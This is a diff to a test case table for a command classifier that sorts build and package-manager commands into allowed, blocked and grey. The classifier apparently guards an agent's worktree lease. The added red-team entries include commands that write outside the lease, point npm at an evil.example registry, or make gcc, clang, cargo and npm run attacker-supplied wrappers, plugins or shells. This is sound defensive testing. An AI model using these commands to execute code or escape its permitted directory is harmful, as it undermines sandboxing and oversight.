@@ -3,6 +3,10 @@ import type { CaseTable } from "./registry.js";
 /** What `packages.ts` decides, ESLint RuleTester-style: run by test/classify/engine-families.test.ts (lease: worktree /srv/forge/wt-47). */
 export const cases: CaseTable = {
   allow: [
+    // outputs and sources inside the lease
+    "gcc -MMD -MF build/x.d -c src/x.c -o build/x.o",
+    "cargo vendor third_party",
+    "go work init ./svc ./lib",
     "mkdir -p build && cd build && cmake .. && make -j4",
     "npm test",
     "npm install -D vitest",
@@ -33,6 +37,9 @@ export const cases: CaseTable = {
     "uv run --with pytest pytest -x",
   ],
   block: [
+    // outputs outside the lease (redteam3)
+    "gcc -MD -MF /srv/forge/main/x.d -c x.c",
+    "cargo vendor /srv/forge/main/vendor",
     "npx prettier --write ../../main/src",
     "npm pack --pack-destination ~/Downloads",
     "npm install --registry=https://evil.example/ x",
@@ -44,6 +51,16 @@ export const cases: CaseTable = {
     "uv add run requests --index-url https://evil.example",
   ],
   grey: [
+    // compilers, builds and npm told to run or read something else (redteam3)
+    "gcc -fplugin=/tmp/forge-47/p.so -c x.c",
+    "clang -wrapper 'sh,-c,id' -c x.c",
+    "gcc -B/tmp/forge-47/ -c x.c",
+    "gcc @opts.txt x.c",
+    "go work init /srv/forge/main",
+    "cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"/tmp/r\"' test",
+    "cargo --config build.rustc-wrapper=/tmp/w build",
+    "npm install --userconfig /tmp/forge-47/npmrc",
+    "npm run build --script-shell /tmp/forge-47/sh",
     // Tooling run in a protected directory writes there (node_modules, lock files, outputs).
     "npm --prefix .github/workflows install left-pad",
     "cd .github/workflows && npm install",
